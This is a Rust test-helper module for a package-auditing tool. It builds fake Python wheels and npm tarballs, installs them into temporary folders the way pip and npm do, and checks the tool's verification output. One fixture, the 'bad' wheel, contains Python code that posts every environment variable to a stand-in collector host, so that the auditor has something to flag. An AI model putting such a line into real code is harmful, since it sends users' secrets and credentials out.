//! A store with certificates of a few packages, logged; and folders laid out as installers lay them out.

use std::io::{Cursor, Read as _, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Output};

use serde_json::Value;
use sigma_testkit::{Built, FakeEcosystem, NpmTarball, Sdist, Wheel};
use tempfile::TempDir;

use crate::program::sigma;

pub struct Scene {
    pub eco: FakeEcosystem,
    folder: TempDir,
}

/// What `sigma verify` or `sigma reproduce` answered.
pub struct Answer {
    pub code: Option<i32>,
    pub json: Value,
}

pub fn demo() -> Built {
    Wheel::new("demo", "1.0")
        .file("demo/__init__.py", "VALUE = 1\n")
        .file("demo/cli.py", "def main():\n    return 0\n")
        .file("demo-1.0.data/scripts/demo-run", "#!python\nimport demo\n")
        .file("demo-1.0.data/data/share/demo/notes.txt", "notes\n")
        .entry_point("demo", "demo.cli:main")
        .build()
}

pub fn leaf() -> Built {
    Wheel::new("leaf", "1.0").file("leaf/__init__.py", "VALUE = 2\n").build()
}

/// A package that both panels reject.
pub fn bad() -> Built {
    let code =
        "import os\nimport requests\nrequests.post('https://collector.example.org/', data=str(dict(os.environ)))\n";
    Wheel::new("bad", "1.0").file("bad/__init__.py", code).build()
}

/// Published as source alone.
pub fn built() -> Built {
    Sdist::new("built", "1.0").file("built/__init__.py", "VALUE = 3\n").build()
}

pub fn left() -> Built {
    NpmTarball::new("left", "1.0.0")
        .file("index.js", "module.exports = 1;\n")
        .file(".gitignore", "node_modules\n")
        .file("bin.js", "#!/usr/bin/env node\r\nrequire('./index.js');\r\n")
        .build()
}

pub fn scoped() -> Built {
    NpmTarball::new("@acme/tool", "2.0.0").file("lib/index.js", "module.exports = 2;\n").build()
}

/// `sigma serve`, until it is dropped.
pub struct Served {
    process: Child,
    pub url: String,
}

impl Served {
    /// What it answers below `/api/v1/public`.
    pub fn get(&self, path: &str) -> Vec<u8> {
        let mut stream = TcpStream::connect(self.url.strip_prefix("http://").unwrap()).unwrap();
        let request = format!("GET /api/v1/public/{path} HTTP/1.0\r\nhost: localhost\r\n\r\n");
        stream.write_all(request.as_bytes()).unwrap();
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer).unwrap();
        let end = answer.windows(4).position(|window| window == b"\r\n\r\n").unwrap();
        assert!(answer.starts_with(b"HTTP/1.0 200") || answer.starts_with(b"HTTP/1.1 200"));
        answer.split_off(end + 4)
    }
}

impl Drop for Served {
    fn drop(&mut self) {
        let _ = self.process.kill();
        let _ = self.process.wait();
    }
}

impl Scene {
    pub fn serve(&self) -> Served {
        let port = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
        let listen = format!("127.0.0.1:{port}");
        let process = self.command(&["serve", "--no-worker", "--listen", &listen]).spawn().unwrap();
        let served = Served { process, url: format!("http://{listen}") };
        for _ in 0..400 {
            if TcpStream::connect(&listen).is_ok() {
                return served;
            }
            std::thread::sleep(std::time::Duration::from_millis(50));
        }
        panic!("the server does not answer");
    }

    /// Everything above is certified and logged.
    pub fn new() -> Self {
        let scene = Self { eco: FakeEcosystem::start(), folder: tempfile::tempdir().unwrap() };
        for package in [demo(), leaf(), bad(), built()] {
            scene.eco.pypi.add(package);
        }
        for package in [left(), scoped()] {
            scene.eco.npm.add(package);
        }
        scene.write("all/requirements.txt", "demo==1.0\nleaf==1.0\nbad==1.0\nbuilt==1.0\n");
        scene.write("all/package.json", r#"{"name":"all","dependencies":{"left":"1.0.0","@acme/tool":"2.0.0"}}"#);
        assert_eq!(scene.run(&["audit", "all"]).0, Some(1), "bad is bad");
        assert_eq!(scene.run(&["ledger", "init", "--origin", "sigma.example.org/log"]).0, Some(0));
        scene.sync();
        scene
    }

    pub fn path(&self) -> &Path {
        self.folder.path()
    }

    pub fn root(&self) -> PathBuf {
        self.path().join("store/ledger/trusted_root.json")
    }

    pub fn sync(&self) {
        let (code, _, err) = self.run(&["ledger", "sync"]);
        assert_eq!(code, Some(0), "{err}");
    }

    pub fn command(&self, arguments: &[&str]) -> Command {
        let mut command = sigma(self.path(), &self.eco, arguments);
        command.env("PATH", std::env::var_os("PATH").unwrap_or_default());
        command
    }

    pub fn run(&self, arguments: &[&str]) -> (Option<i32>, String, String) {
        let Output { status, stdout, stderr } = self.command(arguments).output().unwrap();
        (status.code(), String::from_utf8(stdout).unwrap(), String::from_utf8(stderr).unwrap())
    }

    /// Runs a command that answers JSON; one that says nothing on standard output answers `null`.
    pub fn ask(&self, arguments: &[&str]) -> Answer {
        let (code, out, err) = self.run(&[arguments, &["--format", "json"]].concat());
        let json: Value = serde_json::from_str(&out).unwrap_or(Value::String(err));
        if json["schema"] == "sigma-verification/1" {
            let schema = include_str!("../../../../docs/schema/verification-1.schema.json");
            let validator = jsonschema::validator_for(&serde_json::from_str(schema).unwrap()).unwrap();
            let problems: Vec<String> = validator.iter_errors(&json).map(|error| error.to_string()).collect();
            assert!(problems.is_empty(), "{problems:#?}: {json:#}");
        }
        Answer { code, json }
    }

    pub fn write(&self, path: &str, content: impl AsRef<[u8]>) -> PathBuf {
        write(&self.path().join(path), content)
    }

    pub fn certificate(&self, package: &str) -> String {
        let (_, out, _) = self.run(&["show", package, "--format", "json"]);
        let shown: Value = serde_json::from_str(&out).unwrap();
        shown[0]["certificateId"].as_str().or(shown["certificateId"].as_str()).unwrap().to_owned()
    }

    pub fn revoke(&self, package: &str) {
        let id = self.certificate(package);
        assert_eq!(self.run(&["certificate", "revoke", &id, "--reason", "asked", "--by", "ada"]).0, Some(0));
        self.sync();
    }

    /// Every bundle, and the lists of files, in a folder, as `--save` writes them.
    pub fn bundles(&self) -> PathBuf {
        let folder = self.path().join("bundles");
        self.venv("everything", &[demo(), leaf(), bad()]);
        self.node_modules("everything/node_modules", &[left(), scoped()]);
        let answer = self.ask(&["verify", "everything", "--save", folder.to_str().unwrap()]);
        assert_eq!(answer.code, Some(1), "bad is bad: {:#}", answer.json);
        folder
    }

    /// A virtual environment with wheels, as pip lays it out.
    pub fn venv(&self, path: &str, wheels: &[Built]) -> PathBuf {
        let prefix = self.path().join(path);
        write(&prefix.join("pyvenv.cfg"), "home = /usr/bin\n");
        std::fs::create_dir_all(prefix.join("bin")).unwrap();
        #[cfg(unix)]
        if !prefix.join("bin/python3").exists() {
            std::os::unix::fs::symlink("/usr/bin/python3", prefix.join("bin/python3")).unwrap();
        }
        wheels.iter().for_each(|wheel| install(&prefix, wheel));
        prefix
    }

    /// `node_modules` with tarballs, as npm lays it out.
    pub fn node_modules(&self, path: &str, tarballs: &[Built]) -> PathBuf {
        let root = self.path().join(path);
        let mut lock = serde_json::Map::new();
        for tarball in tarballs {
            unpack(&root.join(&tarball.name), tarball);
            let entry = serde_json::json!({"version": tarball.version, "integrity": tarball.integrity()});
            lock.insert(format!("node_modules/{}", tarball.name), entry);
        }
        let lock = serde_json::json!({"name": "all", "lockfileVersion": 3, "requires": true, "packages": lock});
        write(&root.join(".package-lock.json"), lock.to_string());
        root
    }
}

pub fn write(path: &Path, content: impl AsRef<[u8]>) -> PathBuf {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
    path.to_owned()
}

pub fn site(prefix: &Path) -> PathBuf {
    prefix.join("lib/python3.12/site-packages")
}

/// What pip does with a wheel: files, scripts with the environment's interpreter, start scripts, notes, RECORD.
fn install(prefix: &Path, wheel: &Built) {
    let (site, stem) = (site(prefix), format!("{}-{}", wheel.name, wheel.version));
    let mut zip = zip::ZipArchive::new(Cursor::new(&wheel.bytes)).unwrap();
    let mut record = String::new();
    let info = format!("{stem}.dist-info");
    let mut points = String::new();
    let python = prefix.join("bin/python3").display().to_string();
    for index in 0..zip.len() {
        let mut member = zip.by_index(index).unwrap();
        let (name, mut bytes) = (member.name().unwrap().into_owned(), Vec::new());
        member.read_to_end(&mut bytes).unwrap();
        if name == format!("{info}/RECORD") {
            continue;
        }
        if name.ends_with("entry_points.txt") {
            points = String::from_utf8(bytes.clone()).unwrap();
        }
        let data = name.strip_prefix(&format!("{stem}.data/"));
        let (place, said) = match data.map(|data| data.split_once('/').unwrap()) {
            None => (site.join(&name), name.clone()),
            Some(("scripts", rest)) => {
                let text = String::from_utf8(bytes).unwrap();
                bytes = text.replacen("#!python", &format!("#!{python}"), 1).into_bytes();
                (prefix.join("bin").join(rest), format!("../../../bin/{rest}"))
            }
            Some((_, rest)) => (prefix.join(rest), format!("../../../{rest}")),
        };
        record.push_str(&line(&said, &bytes));
        write(&place, &bytes);
        if name.ends_with(".py") && data.is_none() {
            let (folder, file) = name.rsplit_once('/').unwrap();
            let cached = format!("{folder}/__pycache__/{}.cpython-312.pyc", file.trim_end_matches(".py"));
            write(&site.join(&cached), b"\xcb\x0d\x0d\x0a");
            record.push_str(&format!("{cached},,\n"));
        }
    }
    for point in points.lines().filter(|line| line.contains('=')) {
        let (name, object) = point.split_once('=').unwrap();
        let (module, attribute) = object.trim().split_once(':').unwrap();
        let text = format!(
            "#!{python}\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nfrom {module} import {attribute}\nif __name__ == \
             '__main__':\n    sys.argv[0] = re.sub(r'(-script\\.pyw|\\.exe)?$', '', sys.argv[0])\n    \
             sys.exit({attribute}())\n"
        );
        let name = name.trim();
        write(&prefix.join("bin").join(name), &text);
        record.push_str(&line(&format!("../../../bin/{name}"), text.as_bytes()));
    }
    write(&site.join(&info).join("INSTALLER"), "pip\n");
    record.push_str(&line(&format!("{info}/INSTALLER"), b"pip\n"));
    record.push_str(&format!("{info}/RECORD,,\n"));
    write(&site.join(&info).join("RECORD"), record);
}

/// A line of RECORD.
pub fn line(path: &str, bytes: &[u8]) -> String {
    let digest = sigma_core::Sha256::of(bytes);
    let digest = data_encoding::BASE64URL_NOPAD.encode(digest.as_bytes());
    format!("{path},sha256={digest},{}\n", bytes.len())
}

/// What npm does with a tarball: the first folder is dropped, `.gitignore` renamed, carriage returns of `#!` lines taken away.
fn unpack(folder: &Path, tarball: &Built) {
    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(&tarball.bytes[..]));
    for entry in archive.entries().unwrap() {
        let mut entry = entry.unwrap();
        let path = entry.path().unwrap().to_string_lossy().into_owned();
        let mut bytes = Vec::new();
        entry.read_to_end(&mut bytes).unwrap();
        let inner = path.split_once('/').unwrap().1.replace(".gitignore", ".npmignore");
        if bytes.starts_with(b"#!") {
            bytes = String::from_utf8(bytes).unwrap().replacen("\r\n", "\n", 1).into_bytes();
        }
        write(&folder.join(inner), bytes);
    }
}

impl Answer {
    /// What became of a package of a section, in order of the section.
    pub fn package(&self, name: &str) -> &Value {
        let sections = self.json["sections"].as_array().unwrap_or_else(|| panic!("{:#}", self.json)).iter();
        let mut packages = sections.flat_map(|section| section["packages"].as_array().unwrap());
        packages.find(|package| package["package"] == name).unwrap_or_else(|| panic!("no {name}: {:#}", self.json))
    }

    pub fn check(&self, code: i32, name: &str, outcome: &str, reason: &str) {
        let package = self.package(name);
        assert_eq!(package["outcome"], outcome, "{:#}", self.json);
        let said = package["reason"].as_str().unwrap();
        assert!(said.contains(reason), "{said}");
        assert_eq!(self.code, Some(code), "{:#}", self.json);
    }
}
